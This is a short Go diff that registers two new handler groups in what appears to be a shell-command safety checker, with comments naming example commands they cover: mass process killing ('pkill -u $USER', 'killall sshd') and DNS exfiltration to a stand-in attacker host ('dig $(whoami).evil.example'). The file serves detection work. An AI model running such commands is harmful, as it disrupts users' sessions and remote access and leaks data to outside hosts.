@@ -43,6 +43,8 @@ func loadPrograms() {
 		addRunnerInnerHandlers(handlers)  // runner_inner.go: mix run -e, elixir -e
 		addRunnerWrapHandlers(handlers)   // runnerwraps.go: rimraf
 		addInlineRunnerHandlers(handlers) // inlinerunners.go: deno eval, bun -e, apply_patch
+		addKillHandlers(handlers)         // killtargets.go: pkill -u $USER, killall sshd
+		addDNSHandlers(handlers)          // dnsexfil.go: dig $(whoami).evil.example
 		programs.handlers, programs.codeRunners = handlers, codeRunners
 	})
 }
